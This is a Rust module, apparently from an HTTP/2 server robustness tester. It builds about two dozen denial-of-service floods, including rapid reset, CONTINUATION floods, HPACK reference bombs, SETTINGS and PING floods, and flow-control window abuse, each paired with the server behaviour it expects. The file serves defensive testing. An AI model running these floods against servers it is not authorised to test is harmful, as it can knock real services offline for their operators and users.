//! HTTP/2: floods, and unread responses.

use std::time::Duration;

use futures::FutureExt;
use futures::future::BoxFuture;

use super::Run::Do;
use super::Verdict::{Bounded, Ends};
use super::{Attack, FLOOD, STREAMS, Verdict, attack};
use crate::app::UNREAD;
use crate::h1::path;
use crate::h2::{
    END_HEADERS, END_STREAM, PADDED, fields, fields_of, frame, headers, hello, kind, remembered, request,
    setting, window,
};
use crate::listeners::Listener;
use crate::listeners::Protocol::{Http1, Http2};
use crate::peer::{Received, Sent, Target};

/// A flood: an opening, and repeated data.
struct Flood {
    opening: Vec<u8>,
    /// Sent one after the other.
    pieces: Box<dyn Iterator<Item = Vec<u8>> + Send>,
}

/// A row of a flood on one connection; `reads`: whether the attacker reads the server's data.
macro_rules! flood {
    ($name:literal, $reads:expr, $verdict:expr, $what:expr) => {
        flood!($name, $reads, $verdict, $what, FLOOD)
    };
    ($name:literal, $reads:expr, $verdict:expr, $what:expr, $ceilings:expr) => {
        attack(
            $name,
            Http2,
            Do(|target| pour(target, $reads, $verdict, $what)),
            $verdict,
            $ceilings,
        )
    };
}

const READS: bool = true;
const DEAF: bool = false;

pub(super) const ATTACKS: &[Attack] = &[
    flood!("rapid reset", READS, Bounded, rapid_reset),
    flood!("resets provoked from the server", READS, Bounded, made_you_reset),
    flood!("empty CONTINUATION frames", READS, Ends, |_| continuations(
        0, 50_000
    )),
    flood!("full CONTINUATION frames", READS, Ends, |_| continuations(
        16_000, 300
    )),
    flood!(
        "references to a large field on many streams",
        READS,
        Bounded,
        |l| bomb(l, 3900, 900, 40)
    ),
    flood!(
        "references to a small field on many streams",
        READS,
        Bounded,
        |l| bomb(l, 0, 120_000, 20)
    ),
    flood!("changes of the table's size", READS, Bounded, table_sizes),
    flood!("SETTINGS", READS, Bounded, |_| again(
        frame(kind::SETTINGS, 0, 0, &[]),
        50_000
    )),
    flood!("SETTINGS, answers unread", DEAF, Bounded, |_| again(
        frame(kind::SETTINGS, 0, 0, &[]),
        300_000
    )),
    flood!("PING", READS, Bounded, |_| again(
        frame(kind::PING, 0, 0, &[0; 8]),
        50_000
    )),
    flood!("PING, answers unread", DEAF, Bounded, |_| again(
        frame(kind::PING, 0, 0, &[0; 8]),
        300_000
    )),
    flood!("GOAWAY", READS, Ends, |_| again(
        frame(kind::GOAWAY, 0, 0, &[0; 8]),
        100_000
    )),
    flood!("PRIORITY", READS, Bounded, |_| again(
        frame(kind::PRIORITY, 0, 1001, &[0, 0, 0, 3, 1]),
        100_000
    )),
    flood!("frames of an unknown kind", READS, Bounded, |_| again(
        frame(0xbb, 0, 0, &[]),
        100_000
    )),
    flood!("windows opened by 1", READS, Bounded, |_| again(
        window(0, 1),
        100_000
    )),
    flood!("empty DATA", READS, Ends, |l| on_a_stream(
        l,
        frame(kind::DATA, 0, 1, &[]),
        100_000
    )),
    flood!("DATA with only padding", READS, Bounded, |l| on_a_stream(
        l,
        padding(),
        5_000
    )),
    flood!("DATA of one byte", READS, Bounded, small_data),
    flood!("DATA on a reset stream", READS, Ends, |l| Flood {
        // An increment of zero must be answered with a reset.
        opening: [hello(&[]), headers(l, 1, false), window(1, 0)].concat(),
        pieces: many(frame(kind::DATA, 0, 1, b"x"), 100_000),
    }),
    flood!("empty HEADERS", READS, Bounded, |_| again(
        frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &[]),
        20_000
    )),
    flood!("endless requests", READS, Bounded, unfinished, STREAMS),
    flood!(
        "stream windows while the connection's is 0",
        READS,
        Bounded,
        |l| queued(l, 2),
        STREAMS
    ),
    flood!(
        "windows of distant streams while the connection's is 0",
        READS,
        Bounded,
        |l| queued(l, 16_384),
        STREAMS
    ),
    flood!(
        "SETTINGS that open and close windows",
        READS,
        Bounded,
        window_flips,
        STREAMS
    ),
    flood!(
        "responses without stream windows",
        READS,
        Bounded,
        |l| Flood {
            opening: hello(&[setting(4, 0)]),
            pieces: requests(l, 4000, 2),
        },
        STREAMS
    ),
    flood!(
        "unread responses",
        DEAF,
        Bounded,
        |l| Flood {
            opening: [hello(&[setting(4, 0x7fff_ffff)]), window(0, 0x7fff_0000)].concat(),
            pieces: requests(l, 4000, 2),
        },
        STREAMS
    ),
];

fn pour(
    target: Target,
    reads: bool,
    verdict: Verdict,
    flood: fn(&Listener) -> Flood,
) -> BoxFuture<'static, Received> {
    async move {
        let Ok(mut peer) = target.connect().await else {
            return Received::not_connected();
        };
        let Flood { opening, pieces } = flood(target.listener);
        let limit = match verdict {
            Verdict::Bounded => Duration::from_millis(100),
            _ => super::TIMEOUT,
        };
        let input = std::iter::once(opening).chain(pieces);
        if reads {
            return peer.flood(input, limit).await;
        }
        for piece in input {
            if peer.send(&piece).await != Sent::All {
                break;
            }
        }
        tokio::time::sleep(limit).await;
        Received::default()
    }
    .boxed()
}

/// A repeated frame, in writes of about 16 KiB.
fn many(frame: Vec<u8>, count: usize) -> Box<dyn Iterator<Item = Vec<u8>> + Send> {
    let at_once = (16_384 / frame.len()).clamp(1, count);
    Box::new(std::iter::repeat_n(frame.repeat(at_once), count / at_once))
}

fn again(frame: Vec<u8>, count: usize) -> Flood {
    Flood {
        opening: hello(&[]),
        pieces: many(frame, count),
    }
}

fn on_a_stream(listener: &Listener, frame: Vec<u8>, count: usize) -> Flood {
    Flood {
        opening: [hello(&[]), headers(listener, 1, false)].concat(),
        pieces: many(frame, count),
    }
}

fn rapid_reset(listener: &Listener) -> Flood {
    let block = fields(listener);
    let pieces = (0..400u32).map(move |round| {
        let streams = (0..50).map(|at| 1 + (round * 50 + at) * 2);
        streams
            .flat_map(|stream| {
                let mut input = frame(kind::HEADERS, END_HEADERS, stream, &block);
                input.extend(frame(kind::RESET, 0, stream, &[0, 0, 0, 8]));
                input
            })
            .collect()
    });
    Flood {
        opening: hello(&[]),
        pieces: Box::new(pieces),
    }
}

/// Opens each stream and sends a zero window increment, which the server must answer with a reset.
fn made_you_reset(listener: &Listener) -> Flood {
    let block = fields(listener);
    let pieces = (0..400u32).map(move |round| {
        let streams = (0..50).map(|at| 1 + (round * 50 + at) * 2);
        streams
            .flat_map(|stream| {
                let mut input = frame(kind::HEADERS, END_HEADERS, stream, &block);
                input.extend(window(stream, 0));
                input
            })
            .collect()
    });
    Flood {
        opening: hello(&[]),
        pieces: Box::new(pieces),
    }
}

fn continuations(size: usize, count: usize) -> Flood {
    Flood {
        opening: [hello(&[]), frame(kind::HEADERS, END_STREAM, 1, &[0x82])].concat(),
        // Fields that are dropped: table size changes would be an error after a field.
        pieces: many(frame(kind::CONTINUATION, 0, 1, &vec![0x84; size]), count),
    }
}

/// An indexed field, then blocks of only references to it, on streams that stay open.
fn bomb(listener: &Listener, size: usize, references: usize, streams: u32) -> Flood {
    let block = fields(listener);
    let mut first = block.clone();
    remembered(&mut first, "a", &vec![b'a'; size]);
    let mut rest = block;
    rest.resize(rest.len() + references, 0xbe);
    let pieces = (0..streams).map(move |index| {
        let stream = 3 + index * 2;
        let chunks: Vec<&[u8]> = rest.chunks(16_000).collect();
        let last = chunks.len() - 1;
        let frames = chunks.iter().enumerate().map(|(at, chunk)| {
            let kind = if at == 0 {
                kind::HEADERS
            } else {
                kind::CONTINUATION
            };
            frame(kind, if at == last { END_HEADERS } else { 0 }, stream, chunk)
        });
        frames.collect::<Vec<_>>().concat()
    });
    Flood {
        opening: [hello(&[]), frame(kind::HEADERS, END_HEADERS, 1, &first)].concat(),
        pieces: Box::new(pieces),
    }
}

fn table_sizes(listener: &Listener) -> Flood {
    let rest = fields(listener);
    let pieces = (0..100u32).map(move |index| {
        // To 0 and back to 4,096, thousands of times before each block.
        let mut block = [0x20, 0x3f, 0xe1, 0x1f].repeat(3_500);
        block.extend_from_slice(&rest);
        frame(kind::HEADERS, END_HEADERS | END_STREAM, 1 + index * 2, &block)
    });
    Flood {
        opening: hello(&[]),
        pieces: Box::new(pieces),
    }
}

/// DATA of 256 bytes, all of them padding.
fn padding() -> Vec<u8> {
    frame(kind::DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat())
}

/// Four bodies in one-byte frames, for an app that does not read, or a message with a declared 4 MB.
fn small_data(listener: &Listener) -> Flood {
    let streams = [1, 3, 5, 7];
    let opening = streams.map(|stream| {
        if !listener.offers(Http1) {
            let length = frame(kind::DATA, 0, stream, &[0, 0, 0x3d, 0x09, 0]);
            return [headers(listener, stream, false), length].concat();
        }
        let path = path(listener).replace("/honest", UNREAD);
        frame(
            kind::HEADERS,
            END_HEADERS,
            stream,
            &fields_of(listener, 0x83, &path),
        )
    });
    let bytes = streams.map(|stream| frame(kind::DATA, 0, stream, &[0]));
    Flood {
        opening: [hello(&[]), opening.concat()].concat(),
        pieces: many(bytes.concat(), 60_000),
    }
}

fn unfinished(listener: &Listener) -> Flood {
    let block = fields(listener);
    let pieces = (0..100u32).map(move |round| {
        let streams = (0..100).map(|at| 1 + (round * 100 + at) * 2);
        streams
            .flat_map(|stream| frame(kind::HEADERS, END_HEADERS, stream, &block))
            .collect()
    });
    Flood {
        opening: hello(&[]),
        pieces: Box::new(pieces),
    }
}

/// Complete requests with stream identifiers `step` apart.
fn requests(listener: &Listener, count: u32, step: u32) -> Box<dyn Iterator<Item = Vec<u8>> + Send> {
    let one = request(listener, 0, &[]);
    Box::new((0..count / 50).map(move |round| {
        let streams = (0..50).map(|at| 1 + (round * 50 + at) * step);
        streams.flat_map(|stream| renumbered(&one, stream)).collect()
    }))
}

/// Rewrites frames of one stream for another.
fn renumbered(frames: &[u8], stream: u32) -> Vec<u8> {
    let mut frames = frames.to_vec();
    let mut at = 0;
    while let Some(head) = frames.get_mut(at..at + 9) {
        head[5..9].copy_from_slice(&stream.to_be_bytes());
        at += 9 + u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    }
    frames
}

/// Thousands of responses that wait for the connection's window, then frames that open the window of one
/// stream.
fn queued(listener: &Listener, step: u32) -> Flood {
    let stream = 1 + 3999 * step;
    Flood {
        opening: hello(&[setting(4, 1 << 20)]),
        pieces: Box::new(requests(listener, 4000, step).chain(many(window(stream, 1), 20_000))),
    }
}

/// Thousands of responses that wait for their streams' windows, then SETTINGS that open and close all
/// windows.
fn window_flips(listener: &Listener) -> Flood {
    let flip = [
        frame(kind::SETTINGS, 0, 0, &setting(4, 1)),
        frame(kind::SETTINGS, 0, 0, &setting(4, 0)),
    ];
    Flood {
        opening: hello(&[setting(4, 0)]),
        pieces: Box::new(requests(listener, 4000, 2).chain(many(flip.concat(), 2_000))),
    }
}
